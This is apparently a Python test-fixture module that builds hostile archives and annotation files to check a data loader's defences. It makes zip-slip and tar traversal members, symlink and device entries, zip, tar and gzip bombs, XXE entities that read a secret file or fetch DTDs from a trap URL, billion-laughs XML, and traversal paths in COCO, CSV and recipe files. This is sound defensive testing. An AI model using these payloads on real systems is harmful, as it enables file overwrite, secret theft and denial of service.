"""Hostile archives (zip in its three uses, tar, gzip) and annotations (XML, JSON, CSV, recipes)."""

import gzip
import io
import json
import shutil
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np

from .keras_files import BOMB
from .trap import Trap

MANY = 1_000_000  # members
Member = tuple[str, bytes, int]  # name, content, mode
REGULAR, LINK, DEVICE = stat.S_IFREG | 0o644, stat.S_IFLNK | 0o777, stat.S_IFCHR | 0o666
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
XML = "<annotation><filename>{name}</filename>{body}</annotation>"


def write_zip(file: Path, members: list[Member], packing: int = zipfile.ZIP_STORED) -> Path:
    """Write or append to a zip archive."""
    with zipfile.ZipFile(file, "a" if file.exists() else "w") as archive:
        for name, content, mode in members:
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr, info.compress_type = 3, mode << 16, packing
            archive.writestr(info, content)
    return file


def many_members(file: Path) -> Path:
    """Append a zip archive of a million members that all are the same empty file."""
    start = file.stat().st_size if file.exists() else 0
    with open(file, "ab") as out:
        out.write(struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 7, 0) + b"0000000")
        offset, content = out.tell(), bytearray()
        for i in range(MANY):
            content += struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0, 0, start)
            content += b"%07d" % i
        out.write(content)
        out.write(struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, len(content), offset, 0))
    return file


class Maker:
    """Makes files below `place`.

    Args:
        place: an empty folder.
        trap: where the payloads point.
        model: an honest .tflite; archives are hung behind it.
        run: folder of an honest run.
        image: a picture.
    """

    def __init__(self, place: Path, trap: Trap, model: Path, run: Path, image: Path):
        self.place, self.trap, self.model, self.run, self.image = place, trap, model, run, image
        self.made: dict[str, Path] = {}

    def all(self) -> dict[str, Path]:
        """Return words -> file or folder."""
        self.zips()
        self.tars()
        self.gzips()
        self.voc()
        self.coco()
        self.others()
        return self.made

    def zips(self) -> None:
        """Every wicked member, in a .npz, a .keras and behind a .tflite."""
        cage, up = str(self.trap.canary), "../" * 12
        wicked: dict[str, list[Member]] = {
            "../": [(f"{up}{cage.lstrip('/')}", b"!", REGULAR)],
            "an absolute name": [(cage, b"!", REGULAR)],
            "a backslash": [(f"..\\..\\{self.trap.canary.name}", b"!", REGULAR)],
            "a symbolic link": [("x", str(self.trap.secret).encode(), LINK)],
            "a device": [("x", b"", DEVICE)],
            "a member twice": [("x", b"1", REGULAR), ("x", b"2", REGULAR)],
            "two members that differ in case": [("x", b"1", REGULAR), ("X", b"2", REGULAR)],
        }
        for words, members in wicked.items():
            for file in self._hosts(len(self.made)):
                self.made[f"zip with {words}, {file.suffix}"] = write_zip(file, members)
        for file in self._hosts("bomb"):
            self.made[f"zip that unpacks to 512 MiB, {file.suffix}"] = write_zip(
                file, [("x.npy", bytes(BOMB), REGULAR)], zipfile.ZIP_DEFLATED
            )
        for file in self._hosts("many"):
            if file.suffix != ".tflite":  # an archive that replaces the first one
                file.unlink()
            self.made[f"zip of a million members, {file.suffix}"] = many_members(file)

    def _hosts(self, name: object) -> list[Path]:
        """Return three files to which members are added."""
        arrays, keras, model = (self.place / f"{name}{suffix}" for suffix in (".npz", ".keras", ".tflite"))
        np.savez(arrays, images=np.zeros((40, 8, 8), np.uint8), labels=np.arange(40) % 10)
        write_zip(keras, [("config.json", b"{}", REGULAR), ("model.weights.h5", b"", REGULAR)])
        shutil.copy(self.model, model)
        return [arrays, keras, model]

    def tars(self) -> None:
        """Tars, packed or not, by the names that data sets have."""

        def info(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", size: int = 0) -> tarfile.TarInfo:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.size = kind, target, size
            return member

        outside = str(self.trap.canary)
        wicked = {
            "../": [info("../" * 12 + outside.lstrip("/"), size=1)],
            "an absolute name": [info(outside, size=1)],
            "a symbolic link": [info("o", tarfile.SYMTYPE, str(self.trap.canary.parent)), info("o/canary", size=1)],
            "a hard link": [info("in", size=1), info("../" * 12 + outside.lstrip("/"), tarfile.LNKTYPE, "in")],
            "a device": [info("x", tarfile.CHRTYPE)],
            "a member twice": [info("x", size=1), info("x", size=1)],
            "two members that differ in case": [info("x", size=1), info("X", size=1)],
        }
        for at, (words, members) in enumerate(wicked.items()):
            for ending, mode in ((".tar", "w"), (".tar.gz", "w:gz")):
                file = self.place / f"tar{at}{ending}"
                with tarfile.open(file, mode) as archive:
                    for member in members:
                        archive.addfile(member, io.BytesIO(b"!"))
                self.made[f"tar with {words}, {ending}"] = file
        file = self.place / "bomb.tar.gz"
        with tarfile.open(file, "w:gz", compresslevel=1) as archive:
            archive.addfile(info("x", size=BOMB), io.BytesIO(bytes(BOMB)))
        self.made["tar that unpacks to 512 MiB, .tar.gz"] = file

    def gzips(self) -> None:
        """IDX files of MNIST's names, gzipped."""
        header = struct.pack(">4B3I", 0, 0, 8, 3, BOMB >> 10, 32, 32)
        bomb = gzip.compress(header + bytes(BOMB), 1)
        lying = bomb[:-4] + struct.pack("<I", 100)
        short = gzip.compress(header + bytes(1000))
        for words, content in {
            "gzip that unpacks to 512 MiB": bomb,
            "gzip that unpacks to 512 MiB and says 100 bytes": lying,
            "gzip whose header promises 512 MiB and holds 1000 bytes": short,
            "gzip cut in the middle": bomb[: len(bomb) // 2],
            "gzip inside gzip inside gzip": gzip.compress(gzip.compress(bomb)),
        }.items():
            folder = self.place / f"idx{len(self.made)}"
            folder.mkdir()
            (folder / "train-images-idx3-ubyte.gz").write_bytes(content)
            (folder / "train-labels-idx1-ubyte").write_bytes(struct.pack(">4BI", 0, 0, 8, 1, 2) + b"\0\1")
            self.made[words] = folder

    def voc(self) -> None:
        """VOC annotations with entities, depth and names that leave."""
        thing = (
            "<object><name>{}</name><bndbox><xmin>1</xmin><ymin>1</ymin><xmax>5</xmax><ymax>5</ymax></bndbox></object>"
        )
        external = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{self.trap.secret}">]>'
        remote = f'<!DOCTYPE a SYSTEM "{self.trap.url}a.dtd">'
        parameter = f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{self.trap.url}x.dtd"> %x;]>'
        laughs = f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>'
        blowup = f'<!DOCTYPE a [<!ENTITY b "{"b" * 100_000}">]>'
        for words, text in {
            "an external entity": external + XML.format(name="a.png", body=thing.format("&x;")),
            "a document type on the network": remote + XML.format(name="a.png", body=thing.format("cat")),
            "a parameter entity on the network": parameter + XML.format(name="a.png", body=thing.format("cat")),
            "a billion laughs": laughs + XML.format(name="a.png", body=thing.format("&l9;")),
            "a quadratic blow-up": blowup + XML.format(name="a.png", body=thing.format("&b;" * 10_000)),
            "100,000 elements in each other": XML.format(name="a.png", body="<a>" * 100_000 + "</a>" * 100_000),
            "../ in the file name": XML.format(name="../" * 12 + str(self.trap.secret)[1:], body=thing.format("cat")),
            "an absolute file name": XML.format(name=str(self.trap.secret), body=thing.format("cat")),
        }.items():
            folder = self.place / f"voc{len(self.made)}"
            (folder / "Annotations").mkdir(parents=True)
            (folder / "JPEGImages").mkdir()
            shutil.copy(self.image, folder / "JPEGImages" / "a.png")
            (folder / "Annotations" / "a.xml").write_text(text)
            self.made[f"VOC with {words}"] = folder

    def coco(self) -> None:
        """COCO annotations with names that leave, and depth."""
        secret = str(self.trap.secret)
        for words, name in {
            "../ in the file name": "../" * 12 + secret[1:],
            "an absolute file name": secret,
            "a drive": "C:\\secret.png",
            "a backslash": "..\\..\\secret.png",
            "a zero byte": "a\0.png",
        }.items():
            self._coco(words, name, json.dumps([]))
        self._coco("lists 100,000 deep", "a.png", "[" * 100_000 + "]" * 100_000)

    def _coco(self, words: str, name: str, segmentation: str) -> None:
        folder = self.place / f"coco{len(self.made)}"
        (folder / "annotations").mkdir(parents=True)
        (folder / "images").mkdir()
        shutil.copy(self.image, folder / "images" / "a.png")
        entry = '{"id": 1, "image_id": 1, "category_id": 1, "bbox": [1, 1, 4, 4], "segmentation": ' + segmentation + "}"
        image = json.dumps({"id": 1, "file_name": name, "height": 28, "width": 28})
        text = f'{{"images": [{image}], "annotations": [{entry}], "categories": [{{"id": 1, "name": "cat"}}]}}'
        (folder / "annotations" / "instances_train.json").write_text(text)
        self.made[f"COCO with {words}"] = folder

    def others(self) -> None:
        """A table and recipes that name files elsewhere; a class list that is a link."""
        folder = self.place / "table"
        folder.mkdir()
        rows = [f"{'../' * 12}{str(self.trap.secret)[1:]},cat", f"{self.trap.secret},dog", f"{self.image},dog"]
        (folder / "data.csv").write_text("path,label\n" + "\n".join(rows * 5))
        self.made["CSV with ../ and absolute names"] = folder / "data.csv"
        for words, change in {
            "a recipe whose data are a file elsewhere": {"source": str(self.trap.secret)},
            "a recipe whose data are ../": {"source": "../" * 12 + str(self.trap.secret)[1:]},
            "a recipe whose data are on the network": {"source": self.trap.url + "data"},
            "a recipe whose data are a device": {"source": "/dev/zero"},
        }.items():
            self.made[words] = self._recipe(lambda record, change=change: record["data"].update(change))
        for words, name in {"a recipe named ../x": "../x", "a recipe named like a device": "/dev/full"}.items():
            self.made[words] = self._recipe(lambda record, name=name: record.update(name=name))

    def _recipe(self, change: Callable[[dict], object]) -> Path:
        folder = self.place / f"run{len(self.made)}"
        shutil.copytree(self.run, folder)
        record = json.loads((folder / "recipe.json").read_text())
        change(record)
        (folder / "recipe.json").write_text(json.dumps(record))
        return folder


def extract(path: Path, trap: Trap) -> None:
    """Do with an attack what the standard library offers: extractall, decompress, parse, open what is named."""
    target = trap.place / "extracted"
    shutil.rmtree(target, ignore_errors=True)
    target.mkdir()
    if ".tar" in path.name:
        with tarfile.open(path) as archive:
            archive.extractall(target)
    elif path.is_file() and zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            archive.extractall(target)
    for file in path.rglob("*") if path.is_dir() else ():
        if file.suffix == ".gz":
            content = gzip.decompress(file.read_bytes())
            while content[:2] == b"\x1f\x8b":
                content = zlib.decompress(content, 31)
        elif file.suffix == ".xml":
            from xml.dom import minidom

            names = minidom.parse(str(file)).getElementsByTagName("filename")
            _open(file.parent.parent / "JPEGImages", [name.firstChild.data for name in names])
        elif file.name == "instances_train.json":
            images = json.loads(file.read_text())["images"]
            _open(file.parent.parent / "images", [image["file_name"] for image in images])


def _open(folder: Path, names: list[str]) -> None:
    for name in names:
        print((folder / name).read_bytes()[:100])
